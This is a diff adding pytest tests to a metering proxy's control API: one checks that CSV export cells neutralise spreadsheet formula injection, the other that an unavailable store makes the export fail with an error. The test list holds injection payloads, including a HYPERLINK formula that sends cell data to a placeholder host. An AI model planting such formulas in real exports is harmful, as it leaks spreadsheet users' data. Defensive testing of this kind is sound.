@@ -1,14 +1,17 @@
 """People who want more than is theirs: what they try, and that nothing comes of it."""
 
 import asyncio
+import csv
+import io
 from collections.abc import AsyncIterator
 from typing import Any
 from uuid import UUID
 
 import pytest
 
+from meterproxy.control.statement import _cell
 from meterproxy.core.role import Role
-from meterproxy.errors import Case
+from meterproxy.errors import Case, StoreUnavailable
 from meterproxy.store.keys import Keys
 from meterproxy.store.people import FREE_FAILURES
 from tests.control.asking import ADMIN_TOKEN, PASSWORD, Asking, Heard, Person
@@ -271,3 +274,31 @@ async def test_odd_ids_and_texts_are_told_as_what_they_are(asking: Asking) -> No
     for cursor in cursors:
         heard = await asking("GET", f"/api/user/activity?cursor={cursor}", token=owner.token)
         assert heard.status in {200, 400}, cursor
+
+
+FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", '=HYPERLINK("http://x?"&A1,"x")']
+
+
+async def test_no_cell_is_a_formula(asking: Asking) -> None:
+    """Whatever people and clients name things, in each file there is."""
+    cells = [await asking.pool.fetchval("SELECT csv_cell($1)", text) for text in FORMULAS]
+    told = [next(csv.reader(io.StringIO(cell, newline="")))[0] for cell in cells]
+    assert told == [f"'{text}" for text in FORMULAS]
+    assert [_cell(text) for text in FORMULAS] == told
+    for text in ("plain", "a=b", "1-1", "", 'say "so", twice'):
+        cell = await asking.pool.fetchval("SELECT csv_cell($1)", text)
+        assert next(csv.reader(io.StringIO(f"{cell},", newline="")))[0] == text == _cell(text)
+
+
+async def test_a_file_that_cannot_be_read_is_an_error_not_an_empty_file(asking: Asking) -> None:
+    """Nobody takes a database that is away for a month without usage."""
+    owner = await asking.person("owner")
+
+    def away(*_values: object, **_settings: object) -> None:
+        raise StoreUnavailable("away")
+
+    pool = asking.api._services.activity._pool
+    asking.api._services.activity._pool = type("Away", (), {"acquire": away})()
+    heard = await asking("GET", "/api/user/activity/export", token=owner.token)
+    asking.api._services.activity._pool = pool
+    assert heard.case is Case.UNAVAILABLE
